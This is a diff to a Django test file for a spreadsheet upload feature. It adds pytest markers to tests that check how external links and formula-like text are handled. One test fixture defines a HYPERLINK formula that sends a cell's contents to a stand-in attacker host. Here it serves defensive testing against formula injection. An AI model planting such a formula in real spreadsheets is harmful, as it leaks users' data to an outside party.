@@ -6,6 +6,7 @@ import time
 import zipfile
 
 import openpyxl
+import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import load_workbook
@@ -79,6 +80,7 @@ def test_an_external_link_is_refused_whatever_its_part_is_called(client, reporte
     refused(client, upload, "liên kết tới tệp khác")
 
 
+@pytest.mark.template_context
 def test_a_web_address_in_a_cell_is_not_an_external_link(client, reporter):  # noqa: F811
     client.force_login(reporter)
     wb = fill(download(client), {"3": 5})
@@ -99,6 +101,7 @@ def test_text_over_a_fields_limit_is_listed_with_its_row_and_column(client, repo
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
 
 
+@pytest.mark.template_context
 def test_text_that_looks_like_a_formula_is_written_as_text_and_uploads_back_unchanged(client, reporter, open_year):  # noqa: F811
     unit = Unit.objects.get(code="024")
     workflow.save_figures(user=reporter, campaign=open_year, unit=unit, quarter=1, entries=[workflow.Entry(
